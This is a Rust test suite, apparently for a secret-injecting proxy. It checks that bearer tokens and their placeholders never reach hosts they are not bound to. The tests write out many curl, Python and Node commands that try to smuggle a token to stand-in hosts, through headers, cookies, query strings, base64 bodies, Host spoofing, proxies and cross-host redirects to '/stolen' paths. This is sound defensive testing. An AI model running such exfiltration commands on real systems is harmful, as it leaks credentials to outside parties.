//! Where a secret is not bound, neither its value nor its placeholder arrives.

use super::{API, Held, assert_silent};
use crate::both_callers::both_callers;
use crate::lab::Lab;
use crate::stand::Seen;

both_callers! {
    nothing_goes_to_another_place
    redirects_carry_nothing
}

/// Rules under which each of the places may be reached, without the secret.
const OPEN: &[&str] = &[
    "--allow",
    API,
    "--allow",
    "https://api.example.com/open/**",
    "--allow",
    "PUT https://api.example.com/v1/**",
    "--allow",
    "https://api.example.com:8443/**",
    "--allow",
    "http://api.example.com",
    "--allow",
    "https://other.example.org/**",
    "--allow",
    "http://*.other.example.org",
    "--allow",
    "GET https://api.example.com/redirect with bearer:GH",
];

/// What carries the placeholder, as arguments of curl: `$P` is it, or a harmless word in the control.
const CARRIERS: &[&str] = &[
    "-H \"Authorization: Bearer $P\" https://api.example.com/open/x",
    "-H \"Authorization: Bearer $P\" -X PUT -d x https://api.example.com/v1/items",
    "-H \"Authorization: Bearer $P\" https://api.example.com:8443/v1/items",
    "-H \"Authorization: Bearer $P\" http://api.example.com/v1/items",
    "-H \"Authorization: Bearer $P\" https://other.example.org/v1/items",
    "-H \"Authorization: Bearer $P\" --http2 https://other.example.org/v1/items",
    "-u \"x-access-token:$P\" https://other.example.org/v1/items",
    "-H \"X-Key: $P\" https://api.example.com/v1/items",
    "-H \"X-Key: a$P.b\" https://other.example.org/",
    "-H \"$P: x\" https://other.example.org/",
    "-b \"session=$P\" https://other.example.org/",
    "\"https://other.example.org/$P/x\"",
    "\"https://other.example.org/x?key=$P\"",
    "\"https://api.example.com/v1/items?key=$P\"",
    "-d \"key=$P\" https://other.example.org/",
    "-d \"key=$P\" https://api.example.com/v1/items",
    "-H 'Transfer-Encoding: chunked' -d \"key=$P\" https://other.example.org/",
    "-F \"key=$P\" https://other.example.org/",
    "--http2 -d \"key=$P\" https://other.example.org/",
    "-d \"$(printf %s \"$P\" | base64 -w0)\" https://other.example.org/",
    "-d \"$(printf x%s \"$P\" | base64 -w0)\" https://other.example.org/",
    "-A \"$P\" -e \"https://x/$P\" https://other.example.org/",
    "-H 'Host: other.example.org' -H \"Authorization: Bearer $P\" https://api.example.com/v1/items",
    "\"http://$P.other.example.org/\"",
    "-x http://198.18.0.1:3128 -H \"Authorization: Bearer $P\" http://api.example.com/v1/items",
    "-x http://198.18.0.1:3128 -H \"Authorization: Bearer $P\" https://other.example.org/v1/items",
    "-x socks5h://198.18.0.1:3128 -H \"Authorization: Bearer $P\" http://api.example.com/v1/items",
];

/// These are refused whatever they carry.
const NEVER: &[&str] = &["-H 'Host: other.example.org'"];

/// Each carrier with a word in the place of the placeholder arrives: that it does not with it, is the placeholder's doing.
fn nothing_goes_to_another_place(lab: &Lab) {
    let held = Held::new(lab);
    let word = format!("gxx_{}", super::word(36));
    for carrier in CARRIERS {
        let control = held.sh(OPEN, &format!("P={word}; curl -gsS {carrier}"));
        let never = NEVER.iter().any(|part| carrier.contains(part));
        assert_eq!(
            control.log.all("request").count(),
            usize::from(!never),
            "{carrier}: {}",
            control.ran.told()
        );
    }
    let script: String = CARRIERS
        .iter()
        .map(|carrier| {
            format!("P=$GH; curl -gsS -o answer -w '%{{http_code}}\\n' {carrier}; cat answer; rm -f answer; ")
        })
        .collect();
    let seen = held.sh(OPEN, &format!("echo \"$GH\"; {script} true"));
    assert_silent(&seen, &held.value);
    let placeholder = seen.ran.out().lines().next().unwrap().to_owned();
    assert!(placeholder.len() == held.value.len() && placeholder != held.value, "{}", seen.ran.told());
    arrived_nowhere(&seen, &[&held.value, &placeholder]);
    assert_eq!(seen.log.all("request").count(), 0, "{}", seen.log.told());
    let told = seen.ran.out().matches("\"placeholder\"").count();
    // All but the one of another authority and the name that no rule holds say why.
    assert!(told + 3 >= CARRIERS.len(), "{told} of {}: {}", CARRIERS.len(), seen.ran.out());
    let record = held.stand.record();
    assert!(record.iter().any(|line| line.to_string().contains("placeholder")), "{record:?}");
}

/// Every kind of redirect, to every kind of place, with clients that send their fields on and some that do not.
fn redirects_carry_nothing(lab: &Lab) {
    let held = Held::new(lab);
    let mut script = String::from("echo \"$GH\"; ");
    let mut count = 0;
    for to in [
        "https://other.example.org/stolen",
        "http://other.example.org.other.example.org/stolen",
        "http://api.example.com/stolen",
        "https://api.example.com:8443/stolen",
        "https://api.example.com/open/stolen",
        "https://denied.example.org/stolen",
        "https://203.0.113.7/stolen",
    ] {
        for status in ["301", "302", "303", "307", "308"] {
            count += 1;
            for follow in ["-L", "-L --location-trusted"] {
                script += &format!(
                    "curl -gsSk {follow} -H \"Authorization: Bearer $GH\" 'https://api.example.com/redirect?status={status}&to={to}'; "
                );
            }
        }
        script += &format!(
            "/usr/bin/python3 -c \"import requests, os; requests.get('https://api.example.com/redirect?to={to}', headers={{'Authorization': 'Bearer ' + os.environ['GH']}}, timeout=10)\" 2>/dev/null; "
        );
    }
    script += "node -e \"fetch('https://api.example.com/redirect?to=https://other.example.org/stolen', {headers: {Authorization: 'Bearer ' + process.env.GH}}).catch(() => {})\"; true";
    let seen = held.sh(OPEN, &script);
    assert_eq!(seen.ran.code(), 0, "{}", seen.ran.told());
    assert_silent(&seen, &held.value);
    let placeholder = seen.ran.out().lines().next().unwrap().to_owned();
    let (bound, others): (Vec<_>, Vec<_>) = seen
        .log
        .all("request")
        .partition(|request| request["target"].as_str().unwrap().starts_with("/redirect"));
    assert!(bound.len() >= 2 * count, "{} of {count}: {}", bound.len(), seen.ran.told());
    for request in bound {
        assert_eq!(super::field(request, "authorization"), format!("Bearer {}", held.value), "{request}");
    }
    // A client that drops the field at another host is let through: then nothing is there to be carried.
    assert!(!others.is_empty(), "no redirect was followed at all: {}", seen.ran.told());
    for request in others {
        for word in [&held.value, &placeholder] {
            assert!(!request.to_string().contains(word.as_str()), "{request}");
        }
    }
}

fn arrived_nowhere(seen: &Seen, words: &[&str]) {
    for word in words {
        assert!(!seen.log.has(word), "{word} arrived: {}", seen.log.told());
        assert!(!seen.log.has(&super::base64(&format!("x-access-token:{word}"))), "{}", seen.log.told());
    }
}
